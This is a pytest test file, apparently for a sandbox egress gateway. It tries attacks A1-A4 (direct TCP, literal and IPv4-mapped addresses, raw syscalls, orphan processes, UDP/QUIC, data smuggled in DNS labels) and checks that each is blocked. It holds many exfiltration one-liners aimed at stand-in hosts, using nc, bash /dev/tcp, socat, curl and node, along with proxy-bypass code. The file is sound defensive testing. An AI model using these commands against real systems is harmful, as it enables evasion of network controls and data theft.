"""Attacks A1-A4 of the research on the way out: around the names, by programs that want no proxy.

Each attack is checked at the far end: not a byte arrived. The other attacks are in test_gateway_attacks_dns.py (A5-A7),
test_gateway_attacks_names.py (A8, A9), test_gateway_attacks_http.py (A11, A13), test_gateway_attacks_tunnels.py (A10,
A14) and test_gateway_attacks_below.py (A12, B24).
"""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from corral.actions import Kind
from tests.contain.attacks import users
from tests.contain.conftest import Compile, MakeBox
from tests.contain.gateway_attacks import (
    EVIL,
    EVIL6,
    NOTHING_ALLOWS,
    RESOLVER6,
    WEB,
    attack,
    nothing_arrived,
    refused,
    spoken,
)
from tests.contain.gateway_boxes import PYTHON, policy_of, shell
from tests.internet.world import Internet

WEB_PLACES = ("203.0.113.80", "2001:db8:2::80")

# ---- the core, in every disguise: A1, A2, A5, A14 ----

# Direct TCP, the literal address of an allowed name, data in the labels of a query, SSH on 443; by the system calls
# themselves, in both families. Results go to a descriptor, or to a file where there is none left.
CORE_C = r"""
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

#ifdef RAW
#define SOCKET(f, t) syscall(SYS_socket, f, t, 0)
#define CONNECT(s, a, l) syscall(SYS_connect, s, a, l)
#define SEND(s, b, n) syscall(SYS_sendto, s, b, n, 0, NULL, 0)
#define RECV(s, b, n) syscall(SYS_recvfrom, s, b, n, 0, NULL, NULL)
#else
#define SOCKET(f, t) socket(f, t, 0)
#define CONNECT(s, a, l) connect(s, a, l)
#define SEND(s, b, n) send(s, b, n, 0)
#define RECV(s, b, n) recv(s, b, n, 0)
#endif

static int v6, out = 1;
static unsigned char heard[2048];

static long talk(int type, const void *host, int port, const void *data, size_t size) {
  struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
  struct sockaddr_in four = {.sin_family = AF_INET, .sin_port = htons(port)};
  memcpy(&six.sin6_addr, host, 16), memcpy(&four.sin_addr, host, 4);
  int s = SOCKET(v6 ? AF_INET6 : AF_INET, type);
  struct timeval patience = {.tv_sec = 5};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  long got = s;
  if (got >= 0) got = v6 ? CONNECT(s, (void *)&six, sizeof six) : CONNECT(s, (void *)&four, sizeof four);
  if (got >= 0) got = SEND(s, data, size);
  if (got >= 0) got = RECV(s, heard, sizeof heard);
  got = got < 0 ? -errno : got;
  close(s);
  return got;
}

static long ask(const char *resolver, const char *name, int kind) {
  unsigned char query[300] = {0, 7, 1, 0, 0, 1}, host[16], *at = query + 12;
  while (*name) {
    size_t size = strcspn(name, ".");
    *at++ = size, memcpy(at, name, size), at += size, name += size + (name[size] == '.');
  }
  *at++ = 0, *at++ = 0, *at++ = kind, *at++ = 0, *at++ = 1;
  inet_pton(v6 ? AF_INET6 : AF_INET, resolver, host);
  return talk(SOCK_DGRAM, host, 53, query, at - query);
}

static void tell(const char *what, long result) {
  char line[80];
  write(out, line, snprintf(line, sizeof line, "%s %ld\n", what, result));
}

int main(int count, char **words) {
  unsigned char host[16];
  v6 = words[1][0] == '6';
  if (count > 2) {  // an orphan without any descriptor
    if (fork()) return 0;
    setsid();
    if (fork()) _exit(0);
    for (int fd = 0; fd < 1024; fd++) close(fd);
    out = open(words[2], O_WRONLY | O_CREAT | O_APPEND, 0644);
  }
  inet_pton(v6 ? AF_INET6 : AF_INET, v6 ? "2001:db8:2::66" : "203.0.113.66", host);
  tell("direct", talk(SOCK_STREAM, host, 443, "stolen", 6));
  inet_pton(v6 ? AF_INET6 : AF_INET, v6 ? "2001:db8:2::80" : "203.0.113.80", host);
  tell("literal", talk(SOCK_STREAM, host, 80, "GET / HTTP/1.1\r\nHost: web.test\r\n\r\n", 35));
  const char *resolver = v6 ? "2001:db8:2::99" : "203.0.113.99";
  long got = ask(resolver, "c2VjcmV0LXNlY3JldA.evil.example", 16);
  tell("labels", got > 3 ? heard[3] & 15 : got);
  got = ask(resolver, "web.test", v6 ? 28 : 1);
  tell("name", got > 3 ? heard[3] & 15 : got);
  if (got > 16) {
    memcpy(host, heard + got - (v6 ? 16 : 4), v6 ? 16 : 4);
    tell("banner", talk(SOCK_STREAM, host, 443, "SSH-2.0-stolen\r\n", 16));
  }
  tell("over", 0);
}
"""

# The same without a compiler, by number through ctypes.
CORE_PYTHON = r"""
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
numbers, v6, out = ARGS[0], ARGS[1] == "6", open(ARGS[2], "w") if len(ARGS) > 2 else sys.stdout
def call(name, *rest):
    known = [ctypes.c_long(a) if isinstance(a, int) else a for a in rest]
    got = libc.syscall(ctypes.c_long(numbers[name]), *known)
    return -ctypes.get_errno() if got < 0 else got
heard = ctypes.create_string_buffer(2048)
def talk(kind, host, port, data):
    packed = socket.inet_pton(socket.AF_INET6 if v6 else socket.AF_INET, host)
    where = struct.pack("=H", 10 if v6 else 2) + struct.pack("!H", port) + (bytes(4) + packed + bytes(4) if v6
        else packed + bytes(8))
    s = call("socket", 10 if v6 else 2, kind, 0)
    if s < 0: return s
    patience = struct.pack("ll", 5, 0)
    call("setsockopt", s, 1, 20, patience, len(patience))
    got = call("connect", s, where, len(where))
    if got >= 0: got = call("sendto", s, data, len(data), 0, None, 0)
    if got >= 0: got = call("recvfrom", s, heard, 2048, 0, None, None)
    call("close", s)
    return got
def show(what, got):
    print(what, got, file=out, flush=True)
show("direct", talk(1, "2001:db8:2::66" if v6 else "203.0.113.66", 443, b"stolen"))
show("literal", talk(1, "2001:db8:2::80" if v6 else "203.0.113.80", 80, b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n"))
resolver = "2001:db8:2::99" if v6 else "203.0.113.99"
got = talk(2, resolver, 53, query(b"c2VjcmV0LXNlY3JldA.evil.example"))
show("labels", heard.raw[3] & 15 if got > 3 else got)
got = talk(2, resolver, 53, query(b"web.test", 28 if v6 else 1))
show("name", heard.raw[3] & 15 if got > 3 else got)
family, size = (socket.AF_INET6, 16) if v6 else (socket.AF_INET, 4)
show("banner", talk(1, socket.inet_ntop(family, heard.raw[got - size : got]), 443, b"SSH-2.0-stolen\r\n"))
show("over", 0)
"""
EACCES, ECONNRESET = -13, -104
EXPECTED = {"direct": EACCES, "literal": EACCES, "labels": 3, "name": 0, "banner": ECONNRESET, "over": 0}
UNSET = ["env", *(f"-u{name}" for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"))]
UNSET += [f"-u{word[2:].upper()}" for word in UNSET[1:]]


def _core_held(box: object, internet: Internet, told: str, family: str) -> None:
    found = {word: int(number) for word, number in (line.split() for line in told.splitlines())}
    assert found == EXPECTED
    nothing_arrived(internet)
    evil, web = (EVIL6, "[2001:db8:2::80]") if family == "6" else (EVIL, "203.0.113.80")
    refused(box, Kind.NET_CONNECT, f"{f'[{evil}]' if family == '6' else evil}:443", NOTHING_ALLOWS)  # type: ignore[arg-type]
    refused(box, Kind.NET_CONNECT, f"{web}:80", NOTHING_ALLOWS)  # type: ignore[arg-type]
    refused(box, Kind.NET_RESOLVE, "c2vjcmv0lxnly3jlda.evil.example", NOTHING_ALLOWS)  # type: ignore[arg-type]
    spoken(box, "web.test", "ssh")  # type: ignore[arg-type]


@pytest.mark.parametrize("family", ["4", "6"])
@pytest.mark.parametrize("disguise", ["static", "system-calls", "orphan", "unset", "root"])
async def test_core_in_c(
    make_box: MakeBox, internet: Internet, compile_c: Compile, workspace: Path, disguise: str, family: str
) -> None:
    """A1, A2, A5, A14 with a static binary, by system calls, from an orphan without descriptors, and as root."""
    program = compile_c(CORE_C, "core", *(["-DRAW"] if disguise == "system-calls" else []))
    box = await make_box(policy=policy_of(WEB))
    if disguise == "root" and "root" not in users(box):
        pytest.skip("this sandbox has no root")
    internet.clear()
    if disguise == "orphan":
        place = workspace / "told"
        # What is written inside is in the sandbox's own layer, so it is read there; the shell outlives the orphan.
        command = (
            f"{program} {family} {place}; until grep -q over {place} 2>/dev/null; do sleep 0.05; done; cat {place}"
        )
        result = await shell(box, command, 30)
    elif disguise == "unset":
        proxies = dict.fromkeys(("http_proxy", "HTTPS_PROXY", "ALL_PROXY"), "http://127.0.0.1:9")
        result = await box.exec([*UNSET, program, family], env=proxies, timeout=30)
    else:
        result = await box.exec([program, family], timeout=30, user="root" if disguise == "root" else None)
    _core_held(box, internet, result.text, family)


@pytest.mark.parametrize("family", ["4", "6"])
async def test_core_by_numbers(make_box: MakeBox, internet: Internet, family: str) -> None:
    """The same through ctypes' syscall()."""
    import json

    from tests.contain.attacks import numbers
    from tests.contain.gateway_attacks import PRELUDE

    calls = numbers("socket", "connect", "sendto", "recvfrom", "setsockopt", "close")
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    program = f"{PRELUDE}\nARGS = json.loads(sys.argv[1])\n{CORE_PYTHON}"
    result = await box.exec([PYTHON, "-c", program, json.dumps([calls, family])], timeout=30)
    _core_held(box, internet, result.text, family)


# ---- A1-A3: direct TCP, literal addresses, IPv6 ----

# What a program does that was told of a proxy and does not want one. Each says something and fails by itself.
DIRECT = {
    "curl": "curl -sS -m 8 --noproxy '*' http://evil.example/",
    "curl-literal": f"curl -sS -m 8 --noproxy '*' -d stolen http://{EVIL}/",
    "curl-resolve": f"curl -sS -k -m 8 --resolve web.example:443:{EVIL} https://web.example/",
    "curl-of-an-allowed-name": f"curl -sS -m 8 --resolve web.test:80:{EVIL} http://web.test/",
    "curl-6": f"curl -sS -m 8 -g http://[{EVIL6}]/",
    "curl-mapped": f"curl -sS -m 8 -g http://[::ffff:{EVIL}]/",
    "curl-zone": f"curl -sS -m 8 -g 'http://[{EVIL6}%25lo]/'",
    "nc": f"echo stolen | nc -w 5 {EVIL} 443",
    "nc-6": f"echo stolen | nc -6 -w 5 {EVIL6} 443",
    "socat": f"echo stolen | socat -t 5 - TCP:{EVIL}:443",
    "socat-mapped": f"echo stolen | socat -t 5 - TCP6:[::ffff:{EVIL}]:443",
    "bash": f"bash -c 'exec 3<>/dev/tcp/{EVIL}/443; echo stolen >&3; cat <&3'",
    "node": f'node -e \'require("net").connect(443, "{EVIL}").end("stolen")\'',
    "node-fetch": "node -e 'fetch(\"http://evil.example/\").catch(e => process.exit(1))'",
    "git": f"git ls-remote git://{EVIL}:443/x",
    "git-https": "git ls-remote https://git.test/public.git",
    "ssh": "ssh -o BatchMode=yes -o ConnectTimeout=5 -p 22 203.0.113.22 true",
    "openssl": f"openssl s_client -connect {EVIL}:443 -servername web.test </dev/null",
    "perl": f"perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{EVIL}:80\") or die $@'",
}


async def test_direct_connections(make_box: MakeBox, internet: Internet) -> None:
    """A1, A2, A3 with the tools that everybody has; those that are not there are left out."""
    proxy = dict.fromkeys(("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY"), "http://203.0.113.31:3128")
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    found = await box.exec(
        ["sh", "-c", "for t in curl nc socat bash node git ssh openssl perl; do command -v $t; done"]
    )
    there = {path.rpartition("/")[2] for path in found.text.split()}
    assert {"curl", "bash", "perl"} <= there

    async def run(name: str, command: str) -> None:
        result = await box.exec(
            ["sh", "-c", f"unset http_proxy https_proxy HTTPS_PROXY ALL_PROXY; {command}"], env=proxy, timeout=25
        )
        assert result.exit_code != 0 and not result.timed_out, (name, result)

    await asyncio.gather(*(run(name, text) for name, text in DIRECT.items() if name.partition("-")[0] in there))
    nothing_arrived(internet)
    for target in (f"{EVIL}:443", f"{EVIL}:80", f"[{EVIL6}]:80"):
        refused(box, Kind.NET_CONNECT, target, NOTHING_ALLOWS)
    for name in ("evil.example", "git.test"):
        refused(box, Kind.NET_RESOLVE, name, NOTHING_ALLOWS)


async def test_every_way_to_begin_a_connection(make_box: MakeBox, internet: Internet) -> None:
    """A1: connect() is not the only call. Fast Open, Multipath TCP, a bound source, without blocking, sendmmsg."""
    code = r"""
FAST = 0x20000000
def one(make):
    try:
        return make()
    except OSError as error:
        return failure(error)
def tcp(protocol=0, bind=None, block=True, family=socket.AF_INET, target=(ARGS[0], 443)):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as s:
        if bind: s.bind(bind)
        s.settimeout(5)
        if not block: s.setblocking(False)
        try:
            s.connect(target)
        except BlockingIOError:
            time.sleep(0.3)
            s.connect(target)
        s.send(b"stolen")
        return "DONE"
def fast(call):
    with socket.socket() as s:
        getattr(s, call)(*(([b"stolen"], [], FAST, (ARGS[0], 443)) if call == "sendmsg"
            else (b"stolen", FAST, (ARGS[0], 443))))
        return "DONE"
def option():  # TCP_FASTOPEN_CONNECT: the first write connects
    with socket.socket() as s:
        s.setsockopt(6, 30, 1)
        s.connect((ARGS[0], 443)); s.send(b"stolen")
        return "DONE"
def many():
    libc = ctypes.CDLL(None, use_errno=True)
    where = struct.pack("=H", 2) + struct.pack("!H4s8x", 443, socket.inet_aton(ARGS[0]))
    name, data = ctypes.create_string_buffer(where), ctypes.create_string_buffer(b"stolen")
    part = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(data), 6))
    header = struct.pack("PI4xPNPNi4xI4x", ctypes.addressof(name), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
    with socket.socket() as s:
        if libc.sendmmsg(s.fileno(), header, 1, FAST) < 0:
            raise OSError(ctypes.get_errno(), "")
        return "DONE"
mapped = ("::ffff:" + ARGS[0], 443)
tell([one(f) for f in (tcp, lambda: tcp(262), lambda: tcp(bind=("127.0.0.1", 0)), lambda: tcp(bind=("203.0.113.80", 0)),
    lambda: tcp(block=False), lambda: tcp(family=socket.AF_INET6, target=mapped), lambda: fast("sendto"),
    lambda: fast("sendmsg"), option, many)])
"""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    heard = await attack(box, code, EVIL)
    assert "DONE" not in heard and set(heard) <= {"EACCES", "EPERM", "ENOTSUP", "EPROTONOSUPPORT", "EADDRNOTAVAIL"}
    nothing_arrived(internet)
    refused(box, Kind.NET_CONNECT, f"{EVIL}:443", NOTHING_ALLOWS)


async def test_a_deny_rule_holds_however_the_address_is_written(make_box: MakeBox, internet: Internet) -> None:
    """A3: v4-mapped, where the policy denies the address in its own form and allows the network around it."""
    box = await make_box(policy=policy_of(f"allow: ['203.0.113.0/24', '::/0']\ndeny: [{EVIL}]"))
    internet.clear()
    code = r"""
answers = []
for family, host in ((2, ARGS[0]), (10, "::ffff:" + ARGS[0]), (10, "::ffff:0:" + ARGS[0]), (10, "64:ff9b::" + ARGS[0])):
    with socket.socket(family) as s:
        s.settimeout(5)
        try:
            s.connect((host, 80)); s.sendall(b"GET / HTTP/1.1\r\nHost: " + ARGS[0].encode() + b"\r\n\r\n")
            answers.append(heard(s))
        except OSError as error:
            answers.append(failure(error))
tell(answers)
"""
    heard = await attack(box, code, EVIL)
    assert heard[:2] == ["EACCES", "EACCES"]
    assert all("200" not in answer for answer in heard)
    nothing_arrived(internet)
    refused(box, Kind.NET_CONNECT, f"{EVIL}:80", "network.deny[0]")


# ---- A4: UDP and QUIC ----

UDP = r"""
target, port, mapped = ARGS
# The first flight of QUIC: a long header, version 1, two connection numbers, and padding to 1200 bytes.
quic = b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\x9e" + bytes(1182)
answers = {}
def one(what, make):
    try:
        answers[what] = make()
    except OSError as error:
        answers[what] = failure(error)
def udp(call, family=socket.AF_INET, host=target, port=port, data=quic):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        if call == "connected":
            s.connect((host, port)); s.send(data)
        elif call == "sendto":
            s.sendto(data, (host, port))
        elif call == "sendmsg":
            s.sendmsg([data], [], 0, (host, port))
        elif call == "zero":  # no payload is a message too
            s.sendto(b"", (host, port))
        elif call == "again":  # connected elsewhere first
            s.connect(("127.0.0.1", 9)); s.connect((host, port)); s.send(data)
        elif call == "sendmmsg":
            libc = ctypes.CDLL(None, use_errno=True)
            where = struct.pack("=H", 2) + struct.pack("!H4s8x", port, socket.inet_aton(host))
            name, buffer = ctypes.create_string_buffer(where), ctypes.create_string_buffer(data)
            part = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(buffer), len(data)))
            header = struct.pack("PI4xPNPNi4xI4x", ctypes.addressof(name), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
            if libc.sendmmsg(s.fileno(), header * 3, 3, 0) < 0:
                raise OSError(ctypes.get_errno(), "")
        return "DONE"
for call in ("connected", "sendto", "sendmsg", "zero", "again", "sendmmsg"):
    one(call, lambda: udp(call))
one("six", lambda: udp("sendto", socket.AF_INET6, mapped))
one("mapped", lambda: udp("connected", socket.AF_INET6, "::ffff:" + target))
one("broadcast", lambda: udp("sendto", host="203.0.113.255"))
one("lite", lambda: socket.socket(2, 2, 136).sendto(quic, (target, port)) and "DONE")
tell(answers)
"""


async def test_datagrams_and_quic(make_box: MakeBox, internet: Internet) -> None:
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    heard = await attack(box, UDP, EVIL, 443, EVIL6)
    assert "DONE" not in heard.values(), heard
    assert set(heard.values()) <= {"EACCES", "EPERM", "EPROTONOSUPPORT", "EAFNOSUPPORT"}
    nothing_arrived(internet)
    refused(box, Kind.NET_SEND, f"{EVIL}:443", "gateway.udp")
    refused(box, Kind.NET_SEND, f"[{EVIL6}]:443", "gateway.udp")


async def test_datagrams_have_no_way_out_even_where_a_policy_lets_them(make_box: MakeBox, internet: Internet) -> None:
    """There is no relay for them, so no rule lets them out; behind the supervisor nftables drops them, too (see
    test_gateway_capture.py)."""
    rules = f"allow: [{{ip: {EVIL}, protocol: udp}}, {{cidr: '{EVIL6}/128', protocol: udp}}]"
    box = await make_box(policy=policy_of(rules))
    internet.clear()
    heard = await attack(box, UDP, EVIL, 443, EVIL6)
    assert "DONE" not in heard.values(), heard
    nothing_arrived(internet)
    refused(box, Kind.NET_SEND, f"{EVIL}:443", "gateway.udp")


async def test_http3_of_an_allowed_name(make_box: MakeBox, internet: Internet) -> None:
    """A name's address is no more open to datagrams than any other."""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    code = "ARGS = [socket.getaddrinfo('web.test', 443, socket.AF_INET)[0][4][0], 443, '::1']\n" + UDP
    heard = await attack(box, code)
    assert {heard[how] for how in ("connected", "sendto", "sendmsg", "zero", "again", "sendmmsg")} <= {
        "EACCES",
        "EPERM",
    }
    nothing_arrived(internet)
    refused(box, Kind.NET_SEND, "web.test:443", "gateway.udp")


async def test_what_is_no_query_does_not_pass_as_one(make_box: MakeBox, internet: Internet) -> None:
    """A4 on port 53: QUIC, WireGuard and bare data, to the far end's own name server too."""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    code = r"""
answers = []
for host in ARGS:
    for data in (b"\xc3\0\0\0\1\x08" + bytes(1194), b"\1\0\0\0" + os.urandom(144), b"stolen", b"", bytes(12),
            bytes(4096)):
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            s.connect((host, 53)); s.send(data)
            try:
                answers.append(len(s.recv(4096)))
            except OSError as error:
                answers.append(failure(error))
tell(answers)
"""
    heard = await attack(box, code, "203.0.113.53", EVIL, RESOLVER6)
    assert all(answer == "TimeoutError" or answer <= 12 for answer in heard), heard
    nothing_arrived(internet)
    for host in ("203.0.113.53", EVIL, f"[{RESOLVER6}]"):
        refused(box, Kind.NET_RESOLVE, f"{host}:53")
